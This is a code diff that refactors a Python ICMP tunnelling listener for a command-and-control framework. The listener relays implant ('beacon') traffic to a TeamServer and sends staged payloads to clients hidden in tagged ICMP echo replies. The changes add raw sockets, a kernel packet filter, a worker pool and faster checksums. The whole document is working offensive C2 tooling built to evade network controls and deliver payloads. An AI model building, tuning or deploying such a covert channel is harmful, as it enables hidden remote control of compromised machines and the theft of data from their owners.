@@ -1,24 +1,58 @@
 import logging
-from scapy.all import sniff, send, IP, ICMP, Raw, AsyncSniffer
+import os
 import struct
 import socket
+import array
+import sys
+import functools
+import ctypes
 import math
 import time
 import threading
+import queue
 
 # Configure logging
 logging.basicConfig(level=logging.INFO, format="%(message)s")
 
 ICMP_TAG = "RQ47"
-TAG_SIZE = len(ICMP_TAG)
+# encoded once here, instead of per packet
+ICMP_TAG_BYTES = ICMP_TAG.encode()
+TAG_SIZE = len(ICMP_TAG_BYTES)
 # Must be same as `ICMP_PAYLOAD_SIZE` in client_x86.c, otherwise data will not get through correctly.
 ICMP_PAYLOAD_SIZE = 1000
 MAX_DATA_PER_CHUNK = ICMP_PAYLOAD_SIZE - TAG_SIZE  # 996
+# Seconds between outbound data chunks. 0 sends them back to back, raise it if the client drops chunks.
+# Can be overridden with the INTER_CHUNK_DELAY env var.
+INTER_CHUNK_DELAY = float(os.environ.get("INTER_CHUNK_DELAY", "0.0"))
+
+# type, code, checksum, id, seq
+ICMP_HEADER = struct.Struct("!BBHHH")
+# src, dst addresses, at offset 12 of the IP header
+IPV4_ADDRS = struct.Struct("!4s4s")
+# total transfer size carried after the tag in seq 0 packets
+SIZE_FIELD = struct.Struct("!I")
+ICMP_ECHO_REPLY = 0
+ICMP_ECHO_REQUEST = 8
+# Max packets pulled off the raw socket per wakeup in go()
+RECV_BATCH_SIZE = 64
+RECV_BUFFER_SIZE = 65535
+# not exposed by the socket module, value from <asm-generic/socket.h>
+SO_ATTACH_FILTER = getattr(socket, "SO_ATTACH_FILTER", 26)
 
 TEAMSERVER_IP = "10.10.10.21"
 TEAMSERVER_PORT = 2222
 BEACON_PIPENAME = "foobar"
 BEACON_ARCH = "x86"  # options: `x86`, `x64`
+# Seconds to wait for the next inbound chunk before giving up on a transfer
+CHUNK_TIMEOUT = 10
+# Max number of checkins handled at once, extra checkins wait for a free worker
+MAX_CLIENT_WORKERS = 32
+# CPU the sniffer thread is pinned to (workers get the rest), and its SCHED_FIFO priority when running as root
+SNIFFER_CPU = 0
+SNIFFER_PRIORITY = 20
+# CPUs the process may run on, snapshot at import (main thread) before anything is pinned.
+# Threads inherit affinity from whoever starts them, so this can't be read later from a worker.
+AVAILABLE_CPUS = os.sched_getaffinity(0) if hasattr(os, "sched_getaffinity") else set()
 
 
 class Client:
@@ -30,7 +64,12 @@ class Client:
         self.client_ip = client_ip
         self.icmp_id = icmp_id
         self.tag = tag
-        self.expected_inbound_data_size = expected_inbound_data_size
+
+        # (seq, chunk) for the current transfer's inbound chunks (seq > 0), pushed here by dispatch().
+        # Replaced by new_transfer() on every seq 0
+        self.queue = queue.Queue()
+        # held by handle_data, so only one checkin per client talks to the TeamServer at a time
+        self.lock = threading.Lock()
 
         self.server_ip = TEAMSERVER_IP
         self.server_port = TEAMSERVER_PORT
@@ -42,60 +81,74 @@ class Client:
         # need to connect to teamserver RIGHT AWAY
         self.ts_socket_setup()
 
-    def handle_data(self):
+    def handle_data(self, chunk_queue, expected_len):
         """
         Called each new checkin for the client. Collects all the inbound data, handles comms with teamserver, and sends data back to client.
+        `chunk_queue` is this checkin's, from new_transfer(), `expected_len` the size from its seq 0.
         """
-        # need to make sure this buffer is clear each new checkin
-        self.data_from_client = b""
-
-        ######################################################
-        # Get the inbound data (post seq 0)
-        ######################################################
-        self.recv_fragmented_icmp()
+        # one checkin at a time per client, they share the TeamServer socket
+        with self.lock:
+            # need to make sure this buffer is clear each new checkin
+            self.data_from_client = b""
+
+            ######################################################
+            # Get the inbound data (post seq 0)
+            ######################################################
+            self.recv_fragmented_icmp(chunk_queue, expected_len)
+
+            ######################################################
+            # Logic/Special Conditions
+            ######################################################
+
+            # need to add a special case to get the payload, as when sending payload options, the team server does not reply,
+            # meaning that it just hangs there... so we need to do this so the controller can explicitly ask for the payload, then pass it on.
+            if self.data_from_client == b"I WANT A PAYLOAD":
+                logging.info(
+                    f"[+] Sending payload to client {self.client_ip} ID={self.icmp_id}"
+                )
+                self.send_fragmented_icmp(
+                    client_ip=self.client_ip,
+                    client_icmp_id=self.icmp_id,
+                    full_payload=self.get_payload(),
+                )
+                logging.info(
+                    f"[+] Payload sent to client {self.client_ip} ID={self.icmp_id}"
+                )
+                # wipe data after
+                return
+
+            ######################################################
+            # Proxy
+            ######################################################
+
+            # forward onto teamserver
+            logging.debug(
+                "[+ PROXY] Forwarding data to TeamServer: %s", self.data_from_client
+            )
+            self.ts_send_frame(self.data_from_client)
 
-        ######################################################
-        # Logic/Special Conditions
-        ######################################################
+            # Get response from TS
+            logging.debug("[+ PROXY] Getting response from TeamServer")
+            data_from_ts_for_client = self.ts_recv_frame()
 
-        # need to add a special case to get the payload, as when sending payload options, the team server does not reply,
-        # meaning that it just hangs there... so we need to do this so the controller can explicitly ask for the payload, then pass it on.
-        if self.data_from_client == b"I WANT A PAYLOAD":
-            logging.info(
-                f"[+] Sending payload to client {self.client_ip} ID={self.icmp_id}"
-            )
+            # send to client
             self.send_fragmented_icmp(
                 client_ip=self.client_ip,
                 client_icmp_id=self.icmp_id,
-                full_payload=self.get_payload(),
-            )
-            logging.info(
-                f"[+] Payload sent to client {self.client_ip} ID={self.icmp_id}"
+                full_payload=data_from_ts_for_client,
+                tag=ICMP_TAG_BYTES,
             )
-            # wipe data after
-            return
-
-        ######################################################
-        # Proxy
-        ######################################################
 
-        # forward onto teamserver
-        logging.debug(
-            f"[+ PROXY] Forwarding data to TeamServer: {self.data_from_client}"
-        )
-        self.ts_send_frame(self.data_from_client)
-
-        # Get response from TS
-        logging.debug("[+ PROXY] Getting response from TeamServer")
-        data_from_ts_for_client = self.ts_recv_frame()
-
-        # send to client
-        self.send_fragmented_icmp(
-            client_ip=self.client_ip,
-            client_icmp_id=self.icmp_id,
-            full_payload=data_from_ts_for_client,
-            tag=ICMP_TAG.encode(),
-        )
+    def new_transfer(self):
+        """
+        Start a new inbound transfer (seq 0). Chunks go to a fresh queue, so anything left over from
+        an abandoned transfer can't be read as this one's data. A handle_data still waiting on the old
+        queue is woken with None so it gives up instead of holding the client.
+        """
+        stale_queue = self.queue
+        self.queue = queue.Queue()
+        stale_queue.put_nowait(None)
+        return self.queue
 
     def get_payload(self) -> bytes:
         """
@@ -107,7 +160,7 @@ class Client:
         self.ts_send_frame(b"block=100")
         self.ts_send_frame(b"go")
         self.payload = self.ts_recv_frame()
-        logging.debug(f"[+] Received payload: {self.payload}")
+        logging.debug("[+] Received payload: %s", self.payload)
 
         if self.payload != b"":
             logging.info(
@@ -129,7 +182,7 @@ class Client:
             )
 
     def send_fragmented_icmp(
-        self, client_ip, client_icmp_id, full_payload, tag=ICMP_TAG.encode()
+        self, client_ip, client_icmp_id, full_payload, tag=ICMP_TAG_BYTES
     ):
         """
         Fragment `full_payload` into (ICMP_PAYLOAD_SIZE - TAG_SIZE) bytes each,
@@ -138,10 +191,13 @@ class Client:
         """
         # 1) Send seq=0 reply with total-size (4 bytes)
         total_size = len(full_payload)
-        size_bytes = total_size.to_bytes(4, "big")
+        size_bytes = SIZE_FIELD.pack(total_size)
 
         logging.debug(
-            f"[*] Sending seq=0 reply to {client_ip} (ID={client_icmp_id}). Total payload={total_size} bytes"
+            "[*] Sending seq=0 reply to %s (ID=%d). Total payload=%d bytes",
+            client_ip,
+            client_icmp_id,
+            total_size,
         )
         self.send_icmp_packet(
             ip_dst=client_ip,
@@ -154,19 +210,35 @@ class Client:
         # 2) Send actual data in (ICMP_PAYLOAD_SIZE - TAG_SIZE) byte chunks
         CHUNK_DATA_SIZE = ICMP_PAYLOAD_SIZE - len(tag)  # e.g. 500 - 4 = 496
 
+        # fast path, most replies fit in a single chunk: send it right behind seq 0, no loop/pacing
+        if 0 < total_size <= CHUNK_DATA_SIZE:
+            self.send_icmp_packet(
+                ip_dst=client_ip,
+                icmp_id=client_icmp_id,
+                icmp_seq=1,
+                payload=full_payload,
+                tag=tag,
+            )
+            return
+
         # warning for user when the total size is goingto be bigger than 1 packet
         if total_size > ICMP_PAYLOAD_SIZE:
             logging.warning(
                 f"[!] Client {client_ip} ID: {client_icmp_id} is receiving a large transfer, beacon may appear offline while transfering data."
             )
 
+        # chunks are slices of a view over full_payload, not copies of it
+        payload_view = memoryview(full_payload)
         offset = 0
         seq = 1
-        while offset < len(full_payload):
-            chunk = full_payload[offset : offset + CHUNK_DATA_SIZE]
-            logging.debug(
-                f"    → Sending data chunk seq={seq}, data_bytes={len(chunk)}"
-            )
+        # pacing is deadline based, so time spent building/sending a chunk counts towards the delay
+        next_deadline = time.monotonic()
+        while offset < total_size:
+            chunk = payload_view[offset : offset + CHUNK_DATA_SIZE]
+            if debug_enabled():
+                logging.debug(
+                    "    → Sending data chunk seq=%d, data_bytes=%d", seq, len(chunk)
+                )
             self.send_icmp_packet(
                 ip_dst=client_ip,
                 icmp_id=client_icmp_id,
@@ -176,17 +248,40 @@ class Client:
             )
             offset += CHUNK_DATA_SIZE
             seq += 1
-            time.sleep(0.1)
 
-    def recv_fragmented_icmp(self):
+            if INTER_CHUNK_DELAY:
+                next_deadline += INTER_CHUNK_DELAY
+                sleep_for = next_deadline - time.monotonic()
+                if sleep_for > 0:
+                    time.sleep(sleep_for)
+
+    def recv_fragmented_icmp(self, chunk_queue, expected_len):
         """
-        Blocks until we’ve seen exactly self.expected_inbound_data_size bytes
+        Blocks until we’ve seen exactly `expected_len` bytes (chunks seq 1..N on `chunk_queue`)
         from (self.client_ip, self.icmp_id, tag=self.tag). Returns the assembled bytes.
+        Chunks are placed by seq, so arrival order doesn't matter. Duplicates and out of range seqs are dropped.
         """
-        expected_len = self.expected_inbound_data_size
-        assembled_data = bytearray()
-
-        max_data_per_chunk = ICMP_PAYLOAD_SIZE - TAG_SIZE  # e.g. 1000 - 4 = 996
+        total_chunks = math.ceil(expected_len / MAX_DATA_PER_CHUNK)
+
+        # fast path, most checkins fit in a single chunk
+        if total_chunks == 1:
+            icmp_seq, chunk_data = self.next_chunk(chunk_queue, 0, total_chunks)
+            while icmp_seq != 1:
+                icmp_seq, chunk_data = self.next_chunk(chunk_queue, 0, total_chunks)
+            if debug_enabled():
+                logging.debug(
+                    "[+ SNIFFER] packet seq=%d received from %s, ID=%d, tag=%s",
+                    icmp_seq,
+                    self.client_ip,
+                    self.icmp_id,
+                    self.tag,
+                )
+            self.data_from_client = chunk_data[:expected_len]
+            return self.data_from_client
+
+        # preallocated, chunks are written in place at (seq - 1) * MAX_DATA_PER_CHUNK
+        assembled_data = bytearray(expected_len)
+        seen_seqs = set()
 
         # warning for user when the total size is goingto be bigger than 1 packet
         if expected_len > ICMP_PAYLOAD_SIZE:
@@ -194,82 +289,109 @@ class Client:
                 f"[!] Client {self.client_ip} ID: {self.icmp_id} is sending back a large transfer, beacon may appear offline while transfering data."
             )
 
-        while len(assembled_data) < expected_len:
-            # Wait for the next ICMP Echo-Request from this client/ipc_id/tag
-            matching_pkts = sniff(
-                filter=f"icmp and src host {self.client_ip}",
-                lfilter=lambda p: (
-                    p.haslayer(ICMP)
-                    and p[ICMP].type == 8
-                    and p[ICMP].id == self.icmp_id
-                    and p.haslayer(Raw)
-                    and p[Raw].load.startswith(self.tag.encode())
-                ),
-                count=1,
+        while len(seen_seqs) < total_chunks:
+            icmp_seq, chunk_data = self.next_chunk(
+                chunk_queue, len(seen_seqs), total_chunks
             )
-            incoming_pkt = matching_pkts[0]
-            raw_load = incoming_pkt[Raw].load
-            chunk_data = raw_load[TAG_SIZE:]  # strip off the 4-byte tag
-
-            bytes_needed = expected_len - len(assembled_data)
-            chunk_part = chunk_data[:bytes_needed]
-            assembled_data += chunk_part
-
-            # For logging
-            icmp_seq = incoming_pkt[ICMP].seq & 0xFFFF
-            self.data_from_client += chunk_part
-
-            logging.debug(f"[+] Received chunk_data: {chunk_part!r}")
-            logging.debug(
-                f"[+ SNIFFER] packet seq={icmp_seq} received from {self.client_ip}, "
-                f"ID={self.icmp_id}, tag={self.tag}"
+            if not 1 <= icmp_seq <= total_chunks or icmp_seq in seen_seqs:
+                continue
+            seen_seqs.add(icmp_seq)
+
+            pos = (icmp_seq - 1) * MAX_DATA_PER_CHUNK
+            chunk_part = chunk_data[: min(MAX_DATA_PER_CHUNK, expected_len - pos)]
+            assembled_data[pos : pos + len(chunk_part)] = chunk_part
+
+            if debug_enabled():
+                logging.debug(
+                    "[+ SNIFFER] packet seq=%d received from %s, ID=%d, tag=%s, %d bytes",
+                    icmp_seq,
+                    self.client_ip,
+                    self.icmp_id,
+                    self.tag,
+                    len(chunk_part),
+                )
+
+        self.data_from_client = bytes(assembled_data)
+        return self.data_from_client
+
+    def next_chunk(self, chunk_queue, received, total_chunks):
+        """
+        Wait for the next (seq, chunk) the sniffer routed to this transfer, already parsed + tag stripped.
+        `received`/`total_chunks` are only used for the error messages.
+        """
+        try:
+            item = chunk_queue.get(timeout=CHUNK_TIMEOUT)
+        except queue.Empty:
+            raise TimeoutError(
+                f"Client {self.client_ip} ID: {self.icmp_id} stopped sending, got {received}/{total_chunks} chunks"
             )
-
-        return bytes(assembled_data)
+        if item is None:
+            raise ConnectionAbortedError(
+                f"Client {self.client_ip} ID: {self.icmp_id} started a new transfer, dropping this one at {received}/{total_chunks} chunks"
+            )
+        return item
 
     def send_icmp_packet(
-        self, ip_dst, icmp_id, icmp_seq, payload, tag=ICMP_TAG.encode()
+        self, ip_dst, icmp_id, icmp_seq, payload, tag=ICMP_TAG_BYTES
     ):
         """
         Always send as an Echo Reply (type 0).
         """
-        full_payload = tag + payload
-        packet = (
-            IP(dst=ip_dst)
-            / ICMP(type=0, id=icmp_id, seq=icmp_seq)
-            / Raw(load=full_payload)
+        # header/tag/payload go out as separate iovecs, so tag + payload is never concatenated
+        # only seq + payload change per packet, the rest of the checksum is cached per id/tag
+        checksum = fold_checksum(
+            reply_checksum_base(icmp_id, tag) + icmp_seq + ones_complement_sum(payload)
         )
-        send(packet, verbose=False)
-        logging.debug(f"[+] Sent ICMP REPLY seq={icmp_seq}, len={len(full_payload)}")
+        header = ICMP_HEADER.pack(ICMP_ECHO_REPLY, 0, checksum, icmp_id, icmp_seq)
+        icmp_sock.sendmsg([header, tag, payload], [], 0, (ip_dst, 0))
+        if debug_enabled():
+            logging.debug(
+                "[+] Sent ICMP REPLY seq=%d, len=%d", icmp_seq, len(tag) + len(payload)
+            )
 
     def ts_recv_frame(self):
         # self.sock.setblocking(False)
         # self.sock.settimeout(2)
-        raw_size = self.sock.recv(4)
+        raw_size = self.ts_recv_exact(4)
         # print(raw_size)
-        logging.debug(f"Frame coming from TeamServer: {raw_size}")
+        logging.debug("Frame coming from TeamServer: %s", raw_size)
         if len(raw_size) < 4:
             logging.warning(f"TeamServer: Failed to read frame size: {raw_size}")
             raise ConnectionError("Failed to receive frame size.")
         size = struct.unpack("<I", raw_size)[0]
 
-        buffer = b""
-        while len(buffer) < size:
-            chunk = self.sock.recv(size - len(buffer))
-            if not chunk:
-                raise ConnectionError("Socket closed before full frame received.")
-            buffer += chunk
+        buffer = self.ts_recv_exact(size)
+        if len(buffer) < size:
+            raise ConnectionError("Socket closed before full frame received.")
 
         return buffer
 
+    def ts_recv_exact(self, size) -> bytes:
+        """
+        Read `size` bytes straight into a buffer sized for them, no growing/concatenating.
+        Returns fewer bytes only if the TeamServer closed the socket.
+        """
+        buffer = bytearray(size)
+        view = memoryview(buffer)
+        pos = 0
+        while pos < size:
+            n = self.sock.recv_into(view[pos:], size - pos)
+            if not n:
+                break
+            pos += n
+
+        return bytes(view[:pos])
+
     def ts_send_frame(self, data: bytes):
         size = len(data)
-        logging.debug(f"Frame going to TeamServer: size: {size} data:{data}")
-        self.sock.sendall(struct.pack("<I", size))
-        self.sock.sendall(data)
+        logging.debug("Frame going to TeamServer: size: %d data:%s", size, data)
+        # size + data in one send, so the frame doesn't go out as two segments
+        self.sock.sendall(struct.pack("<I", size) + data)
 
     def ts_socket_setup(self):
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        # frames are request/response, flush each one immediately instead of waiting on Nagle
+        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.sock.settimeout(10)  # 10 sec timeout
         try:
             self.sock.connect((self.server_ip, self.server_port))
@@ -289,57 +411,231 @@ class Client:
             exit()
 
 
+def ones_complement_sum(data) -> int:
+    """
+    Unfolded RFC 1071 sum of `data` (any bytes-like, including memoryview) as big endian 16 bit words,
+    summed by array() instead of a python loop.
+    """
+    if len(data) % 2:
+        data = bytes(data) + b"\x00"
+    words = array.array("H")
+    words.frombytes(data)
+    if sys.byteorder == "little":
+        words.byteswap()
+    return sum(words)
+
+
+def debug_enabled() -> bool:
+    """
+    Checked before debug logging in per packet loops, so the log args aren't even built at INFO.
+    """
+    return logging.root.isEnabledFor(logging.DEBUG)
+
+
+def fold_checksum(total: int) -> int:
+    """
+    Fold an unfolded ones complement sum down to 16 bits and complement it.
+    """
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+@functools.lru_cache(maxsize=256)
+def reply_checksum_base(icmp_id: int, tag: bytes) -> int:
+    """
+    Unfolded sum of the parts of an echo reply that are the same for every packet to a client:
+    type/code, id and the tag. Add seq + the payload sum to get the full packet's sum.
+    """
+    header = ICMP_HEADER.pack(ICMP_ECHO_REPLY, 0, 0, icmp_id, 0)
+    return ones_complement_sum(header) + ones_complement_sum(tag)
+
+
+def worker_cpus():
+    """
+    CPUs the handle_data workers may use: everything available except SNIFFER_CPU.
+    Empty when there's nothing to split (single CPU, or no affinity support).
+    """
+    if SNIFFER_CPU not in AVAILABLE_CPUS or len(AVAILABLE_CPUS) < 2:
+        return set()
+    return AVAILABLE_CPUS - {SNIFFER_CPU}
+
+
+def pin_sniffer_thread():
+    """
+    Give the sniffer thread its own CPU and a realtime priority, so it isn't competing with
+    the workers for CPU time while packets are arriving. Both are best effort.
+    """
+    if not worker_cpus():
+        return
+    # pid 0 = the calling thread
+    try:
+        os.sched_setaffinity(0, {SNIFFER_CPU})
+    except OSError as e:
+        logging.info(f"[!] Could not pin sniffer to CPU {SNIFFER_CPU}: {e}")
+    try:
+        os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(SNIFFER_PRIORITY))
+    except OSError as e:
+        logging.info(f"[!] Could not raise sniffer priority: {e}")
+
+
+def pin_worker_thread():
+    """
+    Run by each worker() on startup, keeps workers off the sniffer's CPU.
+    Also resets the policy, in case the worker was started from an already pinned SCHED_FIFO thread.
+    """
+    cpus = worker_cpus()
+    if cpus:
+        try:
+            os.sched_setaffinity(0, cpus)
+        except OSError as e:
+            logging.info(f"[!] Could not pin worker to CPUs {sorted(cpus)}: {e}")
+        try:
+            os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
+        except OSError as e:
+            logging.info(f"[!] Could not reset worker priority: {e}")
+
+
 ######################################################
 # Setup for listener
 ######################################################
+# raw ICMP socket, used for both receiving requests and sending replies. Opened in go()
+icmp_sock = None
 dict_of_clients = {}
+# checkins waiting for a worker: (client, chunk_queue, expected_len). Fed by dispatch()
+checkin_queue = queue.Queue()
+
+
+def start_workers():
+    """
+    Start MAX_CLIENT_WORKERS reused worker threads for handle_data, instead of a new thread per checkin.
+    Program should be able to exit and the listeners still run per client due to the daemon setting
+    """
+    for i in range(MAX_CLIENT_WORKERS):
+        threading.Thread(target=worker, name=f"worker-{i}", daemon=True).start()
+
+
+def worker():
+    """
+    Runs handle_data for queued checkins, forever. Errors are logged so one bad checkin doesn't kill the worker.
+    """
+    pin_worker_thread()
+    while True:
+        client, chunk_queue, expected_len = checkin_queue.get()
+        try:
+            client.handle_data(chunk_queue, expected_len)
+        except Exception as e:
+            logging.error(f"[-] Error handling client data: {e!r}")
 
 
 def go():
+    global icmp_sock
     logging.info("[+] Starting ICMP Listener")
-    sniff(filter="icmp", prn=packet_filter, store=0)
+    # One raw socket for everything. The kernel hands us every inbound ICMP packet (IP header included)
+    icmp_sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
+    attach_tag_filter(icmp_sock)
+    # started from the main thread, before the sniffer thread pins itself
+    start_workers()
+
+    # receive loop gets its own (pinned) thread, see pin_sniffer_thread()
+    sniff_thread = threading.Thread(target=run_sniffer, name="sniffer", daemon=True)
+    sniff_thread.start()
+    try:
+        sniff_thread.join()
+    except KeyboardInterrupt:
+        logging.info("[+] Shutting down ICMP Listener")
+
+
+def run_sniffer():
+    """
+    Reads icmp_sock forever, handing each packet to dispatch().
+    """
+    pin_sniffer_thread()
+
+    # preallocated receive buffers, one per packet in a batch. Reused every loop
+    buffers = [bytearray(RECV_BUFFER_SIZE) for _ in range(RECV_BATCH_SIZE)]
+    views = [memoryview(buf) for buf in buffers]
+    while True:
+        # block for one packet, then drain whatever else is already queued without blocking
+        sizes = [icmp_sock.recv_into(buffers[0])]
+        try:
+            while len(sizes) < RECV_BATCH_SIZE:
+                sizes.append(
+                    icmp_sock.recv_into(buffers[len(sizes)], 0, socket.MSG_DONTWAIT)
+                )
+        except BlockingIOError:
+            pass
 
+        for view, size in zip(views, sizes):
+            dispatch(view[:size])
 
-def packet_filter(packet):
+
+def attach_tag_filter(sock):
     """
-    Filters initial packets
+    Attach a classic BPF program to the raw socket so the kernel only queues echo requests
+    whose payload starts with our tag. Everything else is dropped before it reaches python.
+    dispatch() still checks both, so running without the filter is just slower.
     """
-    # check to make sure packet is correct type, has Raw data
-    if not (packet.haslayer(ICMP) and packet[ICMP].type == 8 and packet.haslayer(Raw)):
-        return
+    tag = int.from_bytes(ICMP_TAG_BYTES[:4], "big")
+    # (code, jt, jf, k). Raw IPv4 sockets see the packet from the IP header on.
+    program = [
+        (0xB1, 0, 0, 0x00000000),  # ldxb 4*([0]&0xf)   x = IP header length
+        (0x50, 0, 0, 0x00000000),  # ldb  [x+0]          ICMP type
+        (0x15, 0, 3, ICMP_ECHO_REQUEST),  # jeq #8, else drop
+        (0x40, 0, 0, ICMP_HEADER.size),  # ld   [x+8]          first 4 payload bytes
+        (0x15, 0, 1, tag),  # jeq #tag, else drop
+        (0x06, 0, 0, RECV_BUFFER_SIZE),  # ret  accept
+        (0x06, 0, 0, 0x00000000),  # ret  drop
+    ]
+    insns = b"".join(struct.pack("HBBI", *insn) for insn in program)
+    insns_buf = ctypes.create_string_buffer(insns)
+    # struct sock_fprog { unsigned short len; struct sock_filter *filter; }
+    fprog = struct.pack("HP", len(program), ctypes.addressof(insns_buf))
+    try:
+        sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
+    except OSError as e:
+        logging.warning(f"[!] Could not attach kernel ICMP filter, filtering in python: {e}")
+
+
+def dispatch(packet: memoryview):
+    """
+    Routes inbound packets. seq=0 starts a new transfer for a client,
+    seq>0 chunks are pushed onto that client's queue.
+    """
+    # Headers are parsed in place; nothing is copied out of `packet` until it's known to be ours.
+    # IP header length is in the low nibble of the first byte, in 32 bit words
+    ip_header_len = (packet[0] & 0x0F) * 4
+    payload_offset = ip_header_len + ICMP_HEADER.size
 
-    raw_load = packet[Raw].load
-    # Make sure packet has our tag.
-    if not raw_load.startswith(ICMP_TAG.encode()):
+    # check to make sure packet is an echo request, and has our tag
+    if len(packet) < payload_offset + TAG_SIZE or packet[ip_header_len] != ICMP_ECHO_REQUEST:
+        return
+    if packet[payload_offset : payload_offset + TAG_SIZE] != ICMP_TAG_BYTES:
         return
 
     # extract data from packet
-    client_ip = packet[IP].src
-    icmp_id = packet[ICMP].id & 0xFFFF
-    icmp_seq = packet[ICMP].seq & 0xFFFF
+    _, _, _, icmp_id, icmp_seq = ICMP_HEADER.unpack_from(packet, ip_header_len)
+    src_addr, _ = IPV4_ADDRS.unpack_from(packet, 12)
+    client_ip = socket.inet_ntoa(src_addr)
+    # start of the data, right after the tag
+    data_offset = payload_offset + TAG_SIZE
 
     # When we see seq=0, that signals “start of a new transfer”
     if icmp_seq == 0:
-        logging.debug(f"[+] New seq=0 packet received from {client_ip}, ID={icmp_id}")
-
-        # Strip off the 4-byte tag (“RQ47”)
-        content = raw_load[len(ICMP_TAG) :]  # .rstrip(b"\x00")
-        logging.debug(f"[+] seq=0 content: {content}")
+        logging.debug("[+] New seq=0 packet received from %s, ID=%d", client_ip, icmp_id)
 
-        # every other interaction will be here, where it sends a size in seq 0
-        expected_inbound_data_size = int.from_bytes(content[:4], "big")
-        if expected_inbound_data_size < 0:
-            raise ValueError(f"Invalid length={expected_inbound_data_size} in seq=0")
+        # every other interaction will be here, where it sends a size (right after the tag) in seq 0
+        if len(packet) < data_offset + SIZE_FIELD.size:
+            return
+        (expected_inbound_data_size,) = SIZE_FIELD.unpack_from(packet, data_offset)
+        logging.debug("[+] seq=0 size: %d", expected_inbound_data_size)
 
         # if client alreadt in dict, based on id, use that class to handle it
         # problem, this cuold collide if same pid, could just add in ip as well.
         key = icmp_id
         if key in dict_of_clients:
             logging.info(f"[+] Client {client_ip} ID: {icmp_id} checking in")
-            new_size = int.from_bytes(raw_load[TAG_SIZE : TAG_SIZE + 4], "big")
             client = dict_of_clients[key]
-            # set new expected size for the client to recieve
-            client.expected_inbound_data_size = new_size
 
         else:
             logging.info(f"[+] New Client: {client_ip} ID: {icmp_id}")
@@ -352,10 +648,18 @@ def packet_filter(packet):
             dict_of_clients[key] = client
 
         # client.handle_data()
-        # move to threading so more than 1 client can be connected at a time withotut freezing everything up
-        # Program should be able to exit and the listeners still run per client due to the daemon setting
-        t = threading.Thread(target=client.handle_data, daemon=True)
-        t.start()
+        # run on the worker pool so more than 1 client can be connected at a time withotut freezing everything up
+        # new queue for this transfer, see new_transfer()
+        chunk_queue = client.new_transfer()
+        checkin_queue.put_nowait((client, chunk_queue, expected_inbound_data_size))
+
+    else:
+        # chunk for a transfer that's in progress, hand it to the client it belongs to
+        client = dict_of_clients.get(icmp_id)
+        if client is None or client.client_ip != client_ip:
+            return
+        # copied out once here, the receive buffer behind `packet` gets reused
+        client.queue.put_nowait((icmp_seq, bytes(packet[data_offset:])))
 
 
 if __name__ == "__main__":